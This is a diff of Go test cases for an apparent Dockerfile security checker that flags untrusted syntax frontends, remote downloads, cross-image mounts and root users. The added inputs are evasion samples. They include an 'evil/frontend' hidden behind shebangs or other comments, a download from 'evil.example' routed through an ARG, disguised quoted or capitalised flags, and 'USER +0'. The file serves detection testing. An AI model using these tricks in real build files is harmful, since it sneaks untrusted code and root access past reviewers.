@@ -62,6 +62,14 @@ func TestDockerfileSyntax(t *testing.T) {
 		{"no here-document", "FROM a:1\nRUN cat<<CMD\nFROM b:1\nRUN echo '<<CMD'\nRUN cat <<<CMD\nCMD", []string{"FROM stage 0 a:1!", "FROM stage 1 b:1!"}},
 		{"a download", "FROM a" + digest + "\nADD https://get.example/x?token=s3cr3t /x\nADD --checksum=sha256:00 https://get.example/y /y\nADD local /z", []string{"ADD get.example !", "ADD get.example (2) ", "FROM stage 0 a@aaaaaaaaaaaa"}},
 		{"on build", "FROM a" + digest + "\nONBUILD ADD http://h/x /", []string{"ADD h !", "FROM stage 0 a@aaaaaaaaaaaa"}},
+		{"a frontend behind a shebang", "#!/usr/bin/env docker\n# syntax=evil/frontend:1\nFROM a" + digest, []string{"FROM stage 0 a@aaaaaaaaaaaa", "syntax syntax evil/frontend:1!"}},
+		{"a frontend in another comment", "// syntax=evil/frontend:1\nFROM a" + digest, []string{"FROM stage 0 a@aaaaaaaaaaaa", "syntax syntax evil/frontend:1!"}},
+		{"a frontend with arguments", "# syntax=evil/frontend:1 x y\nFROM a" + digest, []string{"FROM stage 0 a@aaaaaaaaaaaa", "syntax syntax evil/frontend:1!"}},
+		{"other spaces", "\u00a0FROM\va:1\n\vFROM\f\rb:1", []string{"FROM stage 0 a:1!", "FROM stage 1 b:1!"}},
+		{"a mount in capitals", "FROM a" + digest + "\nRUN --mount=type=bind,FROM=t:1,target=/t make", []string{"COPY t t:1!", "FROM stage 0 a@aaaaaaaaaaaa"}},
+		{"a mount in quotes", "FROM a" + digest + "\nRUN --mount=type=bind,\\\"from=t:1\\\",target=/t make\nRUN --mount='type=bind,from=u:1' x", []string{"COPY t t:1!", "COPY u u:1!", "FROM stage 0 a@aaaaaaaaaaaa"}},
+		{"a flag in quotes", "FROM a" + digest + "\nCOPY --fr\"om\"=t:1 /x /y", []string{"COPY t t:1!", "FROM stage 0 a@aaaaaaaaaaaa"}},
+		{"a download that an argument names", "FROM a" + digest + "\nARG U=http://evil.example/x\nADD $U /x\nADD local $HOME/", []string{"ADD elsewhere !", "FROM stage 0 a@aaaaaaaaaaaa"}},
 		{"CRLF and a mark", "\ufeffFROM a:1 \r\nRUN x\r\n", []string{"FROM stage 0 a:1!"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
@@ -85,6 +93,8 @@ func TestDockerfileUser(t *testing.T) {
 		{"USER root", "USER app", true, false},
 		{"USER root\nUSER app", "USER app\nUSER root", true, true},
 		{"USER app\nFROM b", "FROM b\nUSER app", true, false},
+		{"USER app", "USER root\nONBUILD USER app", true, true},
+		{"USER app", "USER +0", true, true},
 		{"USER app", "USER app\nFROM s", false, false},
 		{"USER app", "USER app\nFROM other AS y\nUSER root\nFROM s", false, false},
 	} {
